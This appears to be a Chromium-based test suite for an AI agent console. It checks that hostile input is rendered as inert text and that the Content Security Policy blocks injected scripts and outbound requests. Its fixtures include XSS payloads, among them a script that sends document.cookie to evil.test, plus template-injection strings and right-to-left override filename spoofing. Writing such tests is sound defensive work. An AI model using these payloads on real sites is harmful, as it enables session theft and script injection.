import { beforeAll, describe, expect, it } from "vitest";
import { type Stack, startStack } from "../e2e/stack.ts";
import { answerOf, openConsole, runOf, say, withoutChromium } from "./chromium.ts";

let stack: Stack;

const markup = [
  `<img src="/leak" onerror="window.pwned = 1">`,
  `<script>window.pwned = 1; fetch("https://evil.test/?" + document.cookie)</script>`,
  `<svg onload="window.pwned = 1"><style>@import url(https://evil.test/x.css)</style></svg>`,
  `</div></body><iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>`,
  `![x](https://evil.test/pixel.png) [click](javascript:window.pwned=1)`,
  `{{constructor.constructor("window.pwned=1")()}} \${window.pwned = 1}`,
].join("\n");

describe.skipIf(withoutChromium)("hostile text in the console", () => {
  beforeAll(async () => {
    stack = await startStack();
  });

  it("stays text in a message and in its answer, and sends nothing anywhere", async () => {
    const console = await openConsole(stack.url, { hash: "#/agents/demo/chat" });
    const { page } = console;
    await say(page, `!echo ${markup}`);
    expect(await answerOf(runOf(page))).toBe(markup);
    const inside = runOf(page).locator("img, script, svg, style, iframe, a");
    expect(await inside.count()).toBe(0);
    expect(await page.evaluate(() => "pwned" in window)).toBe(false);
    expect(console.strayRequests).toEqual([]);
    expect(console.complaints).toEqual([]);
  });

  it("cannot turn around the text beside it", async () => {
    const { page } = await openConsole(stack.url, { hash: "#/agents/demo/chat" });
    await say(page, "!echo safe \u202Egnp.exe\u202E and \u2066isolated");
    expect(await answerOf(runOf(page))).toContain("\u202Egnp.exe");
    const state = runOf(page).locator(".run-state");
    expect(await state.evaluate((element) => getComputedStyle(element).direction)).toBe("ltr");
    await say(page, `!tool safe {"file":"\u202Egnp.exe"}`);
    await answerOf(runOf(page));
    expect(await runOf(page).locator(".tool .code").innerText()).toContain(String.raw`\u202egnp.exe`);
  });

  it("stays text in a configuration, its difference and a refusal's reason", async () => {
    await stack.addAgent("other");
    const { page, complaints, strayRequests } = await openConsole(stack.url, {
      hash: "#/agents/other/config",
    });
    await stack.proxy.pushConfig({ agentId: "other", config: { note: markup, "<img src=x>": 1 } });
    await expect.poll(() => page.locator(".diff").innerText()).toContain("<img src=x>");
    await stack.proxy.pushConfig({
      agentId: "other",
      config: { model: "<img src=x onerror=pwned()>\u202E" },
    });
    await page.locator('[data-revision="3"]').waitFor();
    expect(await page.locator("main img, main script, main iframe").count()).toBe(0);
    expect(await page.evaluate(() => "pwned" in window)).toBe(false);
    expect([...complaints, ...strayRequests]).toEqual([]);
  });

  it("could do nothing even if it became markup: the page's policy stops it", async () => {
    const { page, complaints } = await openConsole(stack.url);
    await page.evaluate(() => {
      const box = document.createElement("div");
      box.innerHTML = `<img src="https://evil.test/x.png" onerror="window.pwned = 1"><style>*{color:red}</style>`;
      document.body.append(box);
      const script = document.createElement("script");
      script.textContent = "window.pwned = 1";
      document.body.append(script);
    });
    const fetched = await page.evaluate(() => fetch("https://evil.test/").then(String, () => "stopped"));
    expect(fetched).toBe("stopped");
    expect(await page.evaluate(() => "pwned" in window)).toBe(false);
    expect(complaints.filter((text) => text.includes("Content Security Policy")).length).toBeGreaterThan(2);
  });
});
